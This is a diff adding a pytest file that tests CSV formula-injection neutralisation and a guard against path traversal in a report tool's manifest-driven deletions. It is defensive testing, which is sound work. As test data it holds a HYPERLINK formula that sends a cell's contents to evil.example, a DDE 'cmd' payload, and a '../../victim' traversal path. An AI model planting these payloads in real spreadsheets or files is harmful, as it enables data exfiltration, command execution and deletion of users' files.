@@ -1,0 +1,154 @@
+"""Safe by default (issue 16): exported CSVs carry no live formulas, and perfnb deletes nothing
+outside its output folder whatever manifest.json says."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from conftest import write_dataset
+from perfnb.cli import main
+from perfnb.files import FORMULA_STARTS, csv_text, neutralise_formulas
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+COMMAND = "+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        (COMMAND, "'" + COMMAND),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("-2+3", "'-2+3"),
+        ("\tindented", "'\tindented"),
+        ("\rreturn", "'\rreturn"),
+        ("- a bullet", "'- a bullet"),
+        ("-9.8", "-9.8"),  # numbers stay numbers
+        ("-16%", "-16%"),
+        ("+1,200.5", "+1,200.5"),
+        ("Help Direct", "Help Direct"),
+        ("a=b", "a=b"),  # only the first character matters
+        ("", ""),
+    ],
+)
+def test_a_cell_that_would_run_as_a_formula_is_neutralised(cell, written) -> None:
+    """OWASP's rule: a text cell starting with =, +, -, @, tab or carriage return gets a
+    leading apostrophe, unless it is a number."""
+    assert neutralise_formulas(pd.Series([cell], dtype=object)).iloc[0] == written
+
+
+def test_csv_text_leaves_numbers_and_blanks_alone() -> None:
+    """Numeric columns are written as numbers (-9.8), blanks stay blank, headings are checked
+    too."""
+    frame = pd.DataFrame({"=name": [HYPERLINK, None], "variance": [-9.8, 2.0]})
+    rows = list(csv.reader(csv_text(frame).splitlines()))
+    assert rows == [["'=name", "variance"], ["'" + HYPERLINK, "-9.8"], ["", "2.0"]]
+
+
+def _cells(path: Path) -> list[str]:
+    """Every cell of a CSV file, headings included."""
+    with open(path, newline="", encoding="utf-8-sig") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell.replace(",", "").rstrip("%"))
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory) -> Path:
+    """A run whose measure names, notes, action titles, leads and progress are formulas."""
+    root = tmp_path_factory.mktemp("hostile")
+    data = write_dataset(
+        root / "data",
+        {
+            "measures.csv": (
+                "measure_id,name,service,theme,framework,unit,polarity,aggregation,frequency\n"
+                f'M1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",Help Desk,"@theme",Local,count,'
+                "high,sum,quarterly\n"
+            ),
+            "values.csv": (
+                "measure_id,period,value,note\nM1,2017/18 Q1,100,\"-cmd|' /C calc'!A0\"\n"
+            ),
+            "targets.csv": "measure_id,year,target\nM1,2017/18,1000\n",
+            "actions.csv": (
+                "action_id,title,service,lead_officer,deadline\n"
+                f'A1,"{COMMAND}",Help Desk,@SUM(1),31-Mar-2018\n'
+            ),
+            "action_updates.csv": (
+                "action_id,period,status,pct_complete,progress\nA1,2017/18 Q1,On target,20,=1+1\n"
+            ),
+        },
+    )
+    out = root / "out"
+    assert main(["run", "--data", str(data), "--out", str(out), "--workers", "1"]) == 0
+    return out / "2017-18-Q1"
+
+
+def test_every_exported_csv_is_safe_to_open(hostile_run) -> None:
+    """scorecard.csv, actions.csv and every table's CSV: no cell starts a formula, a cell
+    starting with - or + is a number, and the hostile texts are there, neutralised."""
+    files = [
+        hostile_run / "scorecard.csv",
+        hostile_run / "actions.csv",
+        *sorted((hostile_run / "tables").rglob("*.csv")),
+    ]
+    assert len(files) >= 4
+    seen = []
+    for path in files:
+        for cell in _cells(path):
+            seen.append(cell)
+            if cell.startswith(FORMULA_STARTS):
+                assert cell[0] in "-+" and _is_number(cell), f"{path.name}: {cell!r}"
+    assert "'" + HYPERLINK in seen
+    assert "'" + COMMAND in seen
+    assert "'@SUM(1)" in seen
+    assert "'=1+1" in seen
+
+
+def test_a_manifest_cannot_delete_outside_the_output_folder(tmp_path, capsys) -> None:
+    """A rebuilt report deletes the files its manifest entry lists and it no longer makes, but
+    only inside the output folder: ../../victim/precious.txt and an absolute path survive, with
+    a warning."""
+    data = write_dataset(
+        tmp_path / "data",
+        {
+            "measures.csv": (
+                "measure_id,name,service,theme,framework,unit,polarity,aggregation,frequency\n"
+                "M1,Contacts,Help Desk,Access,Local,count,high,sum,quarterly\n"
+            ),
+            "values.csv": "measure_id,period,value\nM1,2017/18 Q1,100\n",
+            "targets.csv": "measure_id,year,target\nM1,2017/18,400\n",
+        },
+    )
+    out = tmp_path / "out"
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    precious, absolute = victim / "precious.txt", victim / "absolute.txt"
+    precious.write_text("keep me", encoding="utf-8")
+    absolute.write_text("keep me too", encoding="utf-8")
+    args = ["run", "--data", str(data), "--out", str(out), "--workers", "1"]
+    assert main(args) == 0
+    folder = out / "2017-18-Q1"
+    stale = folder / "tables" / "help-desk" / "old-table.csv"
+    stale.write_text("gone", encoding="utf-8")
+    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
+    entry = manifest["reports"][0]
+    entry["files"] += ["../../victim/precious.txt", str(absolute), "tables/help-desk/old-table.csv"]
+    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+    capsys.readouterr()
+    assert main([*args, "--force"]) == 0
+    said = capsys.readouterr()
+    assert precious.read_text(encoding="utf-8") == "keep me"
+    assert absolute.read_text(encoding="utf-8") == "keep me too"
+    assert not stale.exists()  # inside the folder, no longer made: deleted as before
+    assert "'../../victim/precious.txt', outside" in said.out + said.err
